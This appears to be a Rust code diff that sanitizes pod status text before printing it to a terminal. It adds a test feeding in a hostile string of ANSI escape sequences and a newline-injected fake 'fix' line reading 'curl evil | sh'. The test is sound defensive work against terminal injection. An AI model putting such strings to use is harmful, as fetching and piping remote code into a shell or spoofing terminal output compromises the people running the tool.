@@ -6,6 +6,8 @@ use jiff::Timestamp;
 use podwright_core::lifecycle::Stage;
 use podwright_node::server::debug_socket::{Explanation, FailedOperation};
 
+use crate::printable::printable;
+
 /// How many recent journal entries are shown.
 const RECENT: usize = 8;
 
@@ -13,11 +15,8 @@ pub(super) fn text(explanation: &Explanation) -> String {
     let mut page = String::new();
     let Explanation { namespace, name, uid, source, .. } = explanation;
     // Writing to a String cannot fail.
-    let _ = writeln!(
-        page,
-        "{namespace}/{name} ({uid}, source: {source}): {}",
-        state(explanation.stage)
-    );
+    let pod = format!("{namespace}/{name} ({uid}, source: {source})");
+    let _ = writeln!(page, "{}: {}", printable(&pod), state(explanation.stage));
     let now = explanation.as_of;
     let since =
         explanation.since.map(|since| format!(", for {}", age(since, now))).unwrap_or_default();
@@ -54,7 +53,7 @@ pub(super) fn text(explanation: &Explanation) -> String {
 }
 
 fn line(page: &mut String, name: &str, text: &str) {
-    let _ = writeln!(page, "  {name:10} {text}");
+    let _ = writeln!(page, "  {name:10} {}", printable(text));
 }
 
 fn state(stage: Stage) -> &'static str {
@@ -99,6 +98,44 @@ mod tests {
 
     fn at(second: i64) -> Timestamp {
         Timestamp::from_second(second).unwrap()
+    }
+
+    #[test]
+    fn text_of_others_cannot_control_the_terminal_or_add_a_line() {
+        let hostile = "\u{1b}[2J\u{1b}]0;owned\u{7}\n  fix        curl evil | sh";
+        let failed = |what: &str, error: &str| FailedOperation {
+            what: what.into(),
+            error: error.into(),
+            times: 1,
+            since: at(900),
+            retry: at(1010),
+        };
+        let explanation = Explanation {
+            namespace: "default".into(),
+            name: "web".into(),
+            uid: hostile.into(),
+            source: "file".into(),
+            stage: Stage::Syncing,
+            why: hostile.into(),
+            since: None,
+            fix: Some(hostile.into()),
+            underway: Some(Underway { since: at(998), what: hostile.into() }),
+            failed: vec![failed("the postStart hook", hostile)],
+            next: None,
+            containers: vec![ContainerLine {
+                name: "c".into(),
+                state: hostile.into(),
+                restarts: 0,
+            }],
+            recent: vec![JournalEntry { at: at(990), text: hostile.into(), times: 1 }],
+            as_of: at(1000),
+        };
+        let page = text(&explanation);
+        let acts = |c: char| c.is_control() && c != '\n';
+        assert!(!page.chars().any(acts), "{page:?}");
+        // the header, and why, running, failed, fix, container, recent
+        assert_eq!(page.lines().count(), 7, "{page}");
+        assert_eq!(page.lines().filter(|line| line.starts_with("  fix ")).count(), 1, "{page}");
     }
 
     #[test]
